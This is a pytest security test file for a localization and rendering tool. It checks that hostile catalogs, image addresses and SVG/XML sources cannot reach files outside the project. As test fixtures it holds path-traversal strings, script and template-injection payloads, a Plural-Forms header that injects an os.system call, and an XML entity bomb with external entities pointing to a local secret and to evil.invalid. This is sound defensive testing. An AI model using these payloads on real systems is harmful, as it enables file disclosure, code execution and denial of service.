"""Hostile names: in references, contexts, headers, addresses and archives; nothing is read or written outside."""

from __future__ import annotations

import io
import zipfile
from importlib.util import find_spec
from xml.etree import ElementTree

import pytest

OUTPUTS = "source,html,bilingual,epub,json"
SECRET = b"SECRET-OF-THE-HOST"
CATALOG = r"""
msgid ""
msgstr ""
"Content-Type: text/plain; charset=UTF-8\n"
"Language: ../../../../evil\n"
"Language-Team: <script>hit=1</script> {{ 7777*7 }}\n"
"X-Generator: ../../evil\n"
"Plural-Forms: nplurals=__import__('os').system('touch hit'); plural=().__class__;\n"

#: ../../../../../../etc/passwd:1 /etc/passwd:2 ../secret.md:1 file:///etc/passwd:3
#: source/../../secret.md:3
msgctxt "../../../evil"
msgid "Title"
msgstr "Имя"

#. ../../../etc/passwd {{ 7777*7 }} {% include "/etc/passwd" %}
#: source/a.md:1
msgid "Title"
msgstr "../../../evil {{ 7777*7 }} {% include 'secret.md' %}"

#: source/a.md:3
msgid "Text ![x](a.png) here."
msgstr "WORDS"

#: source/a.md:5
msgid "Last."
msgstr "Конец."

#~ msgid "../../secret.md"
#~ msgstr "../../secret.md"
"""
ADDRESSES = [
    *(
        "../secret.png",
        "../../secret.png",
        "..%2fsecret.png",
        "%2e%2e/secret.png",
        "..\\\\secret.png",
        "/secret.png",
    ),
    *(
        "a.png/../../secret.png",
        "./../secret.png",
        "file:///etc/hostname",
        "//localhost/etc/hostname",
        "~/secret.png",
    ),
    *(
        "....//secret.png",
        "..%c0%afsecret.png",
        "a.png%00/../../secret.png",
        "<../secret.png>",
        "C:\\\\secret.png",
    ),
]


@pytest.fixture
def inner(shop):
    """A project inside of a folder with secrets; its catalog is hostile."""
    around = shop.root
    around.joinpath("secret.png").write_bytes(SECRET)
    around.joinpath("secret.md").write_bytes(SECRET)
    shop.write("project/article-i18n.toml", 'locales = ["ru"]\nbase_url = "https://a.b"\n')
    shop.write("project/source/a.md", "# Title\n\nText ![x](a.png) here.\n\nLast.\n")
    shop.write("project/source/a.png", b"\x89PNG\r\n\x1a\n")
    shop._monkeypatch.chdir(around / "project")
    return shop


def outside(shop) -> set[str]:
    return {path for path in shop.files() if not path.startswith("project/")}


def test_names_in_a_catalog_lead_nowhere(inner) -> None:
    pictures = " ".join(f"![x]({address})" for address in ADDRESSES)
    inner.write(
        "project/locales/ru/LC_MESSAGES/a.po",
        CATALOG.replace("WORDS", f"Текст {pictures} тут.".replace("\\", "\\\\")),
    )
    before = outside(inner)
    for command in (
        *(("extract",), ("update",), ("check",), ("status", "--html", "status.html")),
        *(("render", "--to", OUTPUTS), ("render", "--to", "site")),
    ):
        assert inner.run(*command).code in (0, 1, 2)
    assert outside(inner) == before
    made = {path: data for path, data in inner.files().items() if path.startswith("project/build/")}
    assert made
    assert all(SECRET not in data and b"54439129" not in data for data in made.values())
    assert not any("hit" in path for path in inner.files())
    for path, data in made.items():
        if path.endswith((".epub", ".docx")):
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                names = archive.namelist()
                assert not any(name.startswith(("/", "\\")) or ".." in name or ":" in name for name in names)
                assert all(SECRET not in archive.read(name) for name in names)
        elif path.endswith(".xml"):
            ElementTree.fromstring(data)


BOMB = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + '<!ENTITY x SYSTEM "secret.dat"><!ENTITY % y SYSTEM "http://evil.invalid/y.dtd"> %y;]>\n'
)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("b.svg", "<svg xmlns='http://www.w3.org/2000/svg'><title>A title &a9; &x;</title></svg>\n"),
        ("b.xml", "<article><title>A title</title><para>Text &a9; &x; here.</para></article>\n"),
        (
            "b.xhtml",
            "<html xmlns='http://www.w3.org/1999/xhtml'><body><p>Text &a9; &x; here.</p></body></html>\n",
        ),
    ],
)
def test_entities_are_not_expanded_in_sources(shop, name: str, text: str) -> None:
    root = name.partition(".")[2].replace("xml", "article").replace("xharticle", "html")
    shop.write("source/secret.dat", SECRET)
    shop.write(f"source/{name}", BOMB.replace("DOCTYPE svg", f"DOCTYPE {root}") + text)
    assert shop.run("extract").code in (0, 1, 2)
    assert shop.run("update", "-l", "ru").code in (0, 1, 2)
    assert shop.run("render", "--to", "source").code in (0, 1, 2)
    made = {path: data for path, data in shop.files().items() if not path.startswith((".cache/", "source/"))}
    assert {path: len(data) for path, data in made.items() if len(data) > 10_000} == {}
    assert [path for path, data in made.items() if SECRET in data] == []


@pytest.mark.parametrize("output", ["html", "epub", "site", "pdf"])
def test_entities_are_not_expanded_in_pictures(shop, output: str) -> None:
    if output == "pdf" and find_spec("weasyprint") is None:
        pytest.skip("WeasyPrint is not installed")
    picture = "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><text>&a9; &x;</text></svg>\n"
    shop.write("source/secret.dat", SECRET)
    shop.write("source/b.svg", BOMB + picture)
    shop.write("source/a.md", "# Title\n\nText ![x](b.svg) here.\n")
    shop.run("extract")
    shop.run("update", "-l", "ru")
    shop.translate(
        "locales/ru/LC_MESSAGES/a.po", {"Title": "Имя", "Text ![x](b.svg) here.": "Вот ![x](b.svg)."}
    )
    assert shop.run("render", "--to", output).code in (0, 1, 2)
    assert all(len(data) < 1_000_000 for path, data in shop.files().items() if path.startswith("build/"))
